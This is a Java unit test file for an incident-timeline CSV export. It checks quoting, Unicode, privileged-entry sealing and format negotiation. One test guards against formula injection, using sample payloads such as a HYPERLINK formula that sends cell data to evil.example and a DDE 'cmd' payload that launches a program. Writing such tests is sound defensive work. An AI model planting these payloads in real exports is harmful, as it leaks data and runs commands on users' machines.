package dev.tandem.server.incident;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import dev.tandem.server.DomainException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/**
 * The timeline as CSV (docs/contracts.md "Additions", ADR 124), without Spring: RFC 4180 quoting, no
 * cell a spreadsheet would run as a formula, UTF-8 text kept, and a privileged entry the caller cannot
 * open written as the JSON shows it to them.
 */
class TimelineCsvTest {
    private static final JsonMapper JSON = JsonMapper.builder().build();

    static final String HEADER = "index,at,actor,type,kind,privileged,opened,commitment,eventAt,eventPrecision,"
            + "discoveredAt,corrects,correctedBy,text\r\n";

    static Timeline.Entry note(long index, String text) {
        return note(index, "ada", text);
    }

    static Timeline.Entry note(long index, String actor, String text) {
        return new Timeline.Entry(
                index,
                "timeline.entry",
                "2026-11-26T09:00:00Z",
                actor,
                JSON.createObjectNode(),
                false,
                null,
                "NOTE",
                null,
                null,
                null,
                null,
                null,
                text);
    }

    static Timeline.Entry privileged(long index, @Nullable JsonNode opened, String text) {
        return new Timeline.Entry(
                index,
                "timeline.entry",
                "2026-11-26T10:00:00Z",
                "counsel",
                JSON.readTree("{\"repository\":\"FORENSIC\",\"commitment\":\"0123456789abcdef0123\"}"),
                true,
                opened,
                opened == null ? null : "DECISION",
                opened == null ? null : "2026-11-26T06:00:00Z",
                opened == null ? null : "HOUR",
                opened == null ? null : "2026-11-26T09:30:00Z",
                null,
                null,
                text);
    }

    static List<List<String>> parse(String csv) {
        try (CsvReader<CsvRecord> r = CsvReader.builder().ofCsvRecord(csv)) {
            return r.stream().map(CsvRecord::getFields).toList();
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    @Test
    void anEmptyTimelineIsTheHeaderRowAlone() {
        assertThat(TimelineCsv.write(List.of())).isEqualTo(HEADER);
    }

    @Test
    void aPlainEntryIsOneRecordEndedByCrlfWithEmptyCellsForWhatItDoesNotCarry() {
        Timeline.Entry corrected = new Timeline.Entry(
                8,
                "timeline.entry",
                "2026-11-26T10:00:00Z",
                "ada",
                JSON.createObjectNode(),
                false,
                null,
                "NOTE",
                "2026-11-26T06:00:00Z",
                "HOUR",
                "2026-11-26T09:30:00Z",
                null,
                List.of(11L, 14L),
                "Sync job ran");
        Timeline.Entry correction = new Timeline.Entry(
                11,
                "timeline.entry",
                "2026-11-26T11:00:00Z",
                "ic",
                JSON.createObjectNode(),
                false,
                null,
                "CORRECTION",
                null,
                null,
                null,
                8L,
                null,
                "It ran at 07:00");
        assertThat(TimelineCsv.write(List.of(corrected, correction)))
                .isEqualTo(HEADER
                        + "8,2026-11-26T10:00:00Z,ada,timeline.entry,NOTE,false,,,2026-11-26T06:00:00Z,HOUR,"
                        + "2026-11-26T09:30:00Z,,11 14,Sync job ran\r\n"
                        + "11,2026-11-26T11:00:00Z,ic,timeline.entry,CORRECTION,false,,,,,,8,,It ran at 07:00\r\n");
    }

    @Test
    void commasQuotesAndLineBreaksAreQuotedAsRfc4180Says() {
        String csv = TimelineCsv.write(List.of(
                note(1, "called the DPA, then the CISO"),
                note(2, "the \"sync\" user"),
                note(3, "line one\nline two"),
                note(4, "line one\r\nline two"),
                note(5, "ends with a quote\"")));
        assertThat(csv)
                .contains(",\"called the DPA, then the CISO\"\r\n")
                .contains(",\"the \"\"sync\"\" user\"\r\n")
                .contains(",\"line one\nline two\"\r\n")
                .contains(",\"line one\r\nline two\"\r\n")
                .contains(",\"ends with a quote\"\"\"\r\n");
        List<List<String>> rows = parse(csv);
        assertThat(rows).hasSize(6);
        assertThat(rows.stream().skip(1).map(List::getLast))
                .containsExactly(
                        "called the DPA, then the CISO",
                        "the \"sync\" user",
                        "line one\nline two",
                        "line one\r\nline two",
                        "ends with a quote\"");
        assertThat(rows).allSatisfy(r -> assertThat(r).hasSize(TimelineCsv.COLUMNS.size()));
    }

    @Test
    void aCellASpreadsheetWouldRunAsAFormulaGetsALeadingApostrophe() {
        List<String> formulas = List.of(
                "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")",
                "+1+1",
                "-2+3",
                "@SUM(A1:A9)",
                "\t=1+1",
                "\r=1+1",
                "=cmd|' /C calc'!A0");
        List<Timeline.Entry> entries =
                formulas.stream().map(f -> note(formulas.indexOf(f), f)).toList();
        List<List<String>> rows = parse(TimelineCsv.write(entries));
        assertThat(rows.stream().skip(1).map(List::getLast))
                .containsExactlyElementsOf(formulas.stream().map(f -> "'" + f).toList());
        // text that only contains such a character, or starts otherwise, is left as it was
        List<String> plain = List.of("a = b", "1+1", "x@example.com", " =1+1", "");
        List<List<String>> kept = parse(TimelineCsv.write(
                plain.stream().map(p -> note(plain.indexOf(p), p)).toList()));
        assertThat(kept.stream().skip(1).map(List::getLast)).containsExactlyElementsOf(plain);
    }

    @Test
    void everyCellIsNeutralisedNotOnlyTheText() {
        Timeline.Entry byOddName = note(1, "-ada", "plain");
        assertThat(parse(TimelineCsv.write(List.of(byOddName))).get(1).get(2)).isEqualTo("'-ada");
    }

    @Test
    void textBeyondAsciiIsKeptAsItIs() {
        String text = "Zoë Ünal told the Datenschutzbehörde — 東京 office; naïve café ✓";
        String csv = TimelineCsv.write(List.of(note(1, text)));
        assertThat(parse(new String(csv.getBytes(StandardCharsets.UTF_8), StandardCharsets.UTF_8))
                        .get(1)
                        .getLast())
                .isEqualTo(text);
        assertThat(csv).endsWith("," + text + "\r\n");
    }

    @Test
    void aPrivilegedEntryTheCallerCannotOpenIsItsCommitmentAndNothingElse() {
        String sentence = TimelineText.commitment("0123456789abcdef0123");
        List<String> sealed =
                parse(TimelineCsv.write(List.of(privileged(7, null, sentence)))).get(1);
        assertThat(sealed)
                .containsExactly(
                        "7",
                        "2026-11-26T10:00:00Z",
                        "counsel",
                        "timeline.entry",
                        "",
                        "true",
                        "false",
                        "0123456789abcdef0123",
                        "",
                        "",
                        "",
                        "",
                        "",
                        sentence);
        List<String> opened = parse(TimelineCsv.write(List.of(privileged(
                        7,
                        JSON.readTree("{\"kind\":\"DECISION\",\"text\":\"notify the DPA\"}"),
                        "counsel decided: notify the DPA"))))
                .get(1);
        assertThat(opened)
                .containsExactly(
                        "7",
                        "2026-11-26T10:00:00Z",
                        "counsel",
                        "timeline.entry",
                        "DECISION",
                        "true",
                        "true",
                        "0123456789abcdef0123",
                        "2026-11-26T06:00:00Z",
                        "HOUR",
                        "2026-11-26T09:30:00Z",
                        "",
                        "",
                        "counsel decided: notify the DPA");
    }

    @Test
    void theFormatParameterDecidesAndOtherwiseTheAcceptHeader() {
        assertThat(TimelineCsv.asked("csv", null)).isTrue();
        assertThat(TimelineCsv.asked(" CSV ", "application/json")).isTrue();
        assertThat(TimelineCsv.asked("json", "text/csv")).isFalse();
        assertThat(TimelineCsv.asked(null, null)).isFalse();
        assertThat(TimelineCsv.asked(null, "*/*")).isFalse();
        assertThat(TimelineCsv.asked(null, "application/json")).isFalse();
        assertThat(TimelineCsv.asked(null, "text/csv")).isTrue();
        assertThat(TimelineCsv.asked(null, "Text/CSV; charset=utf-8")).isTrue();
        assertThat(TimelineCsv.asked(null, "text/csv, application/json")).isTrue();
        assertThat(TimelineCsv.asked(null, "application/json, text/csv;q=0.5")).isFalse();
        assertThat(TimelineCsv.asked(null, "application/json;q=0.4, text/csv;q=0.5"))
                .isTrue();
        assertThat(TimelineCsv.asked(null, "text/csv;q=0")).isFalse();
        assertThat(TimelineCsv.asked(null, "text/csv;q=bad")).isFalse();
        assertThatThrownBy(() -> TimelineCsv.asked("xlsx", null)).isInstanceOfSatisfying(DomainException.class, e -> {
            assertThat(e.kind()).isEqualTo(DomainException.Kind.BAD_REQUEST);
            assertThat(e.code()).isEqualTo("bad-format");
            assertThat(e.getMessage()).startsWith("format:").contains("xlsx");
        });
    }

    @Test
    void theDownloadIsNamedAfterTheIncident() {
        assertThat(TimelineCsv.attachment("0192f1c2-7a4b-7c3d-8e9f-0123456789ab"))
                .isEqualTo("attachment; filename=\"incident-0192f1c2-7a4b-7c3d-8e9f-0123456789ab-timeline.csv\"");
        assertThat(TimelineCsv.attachment("a\"b/c\r\nd"))
                .isEqualTo("attachment; filename=\"incident-a_b_c__d-timeline.csv\"");
    }
}
